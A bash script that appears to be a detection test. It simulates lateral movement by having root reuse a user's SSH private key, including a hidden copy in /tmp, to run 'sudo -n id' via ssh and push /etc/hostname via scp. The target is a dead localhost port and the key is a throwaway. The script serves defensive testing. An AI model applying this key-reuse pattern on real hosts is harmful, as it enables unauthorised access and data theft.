#!/bin/bash
# Log in elsewhere with someone else's key: root uses the private key of the user "alice"
# from her home directory, and a copy of it dropped in /tmp, to run a command on another
# host with ssh and to copy a file there with scp. The key is a throwaway made here in the
# overlaid /home, and the host is 127.0.0.1 port 1 where nothing listens, so both fail
# after their exec is recorded.
# technique: T1550 T1021.004
# expect: ssh-foreign-identity remote-service-session
set -eu
mkdir -p /home/alice/.ssh
ssh-keygen -q -t ed25519 -N '' -C alice@workstation -f /home/alice/.ssh/id_ed25519 > /dev/null
cp /home/alice/.ssh/id_ed25519 /tmp/.k
chmod 600 /tmp/.k
opts=(-o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null)
ssh "${opts[@]}" -i /home/alice/.ssh/id_ed25519 -p 1 alice@127.0.0.1 'sudo -n id' 2> /dev/null || true
scp "${opts[@]}" -i /tmp/.k -P 1 /etc/hostname alice@127.0.0.1:/tmp/ 2> /dev/null || true
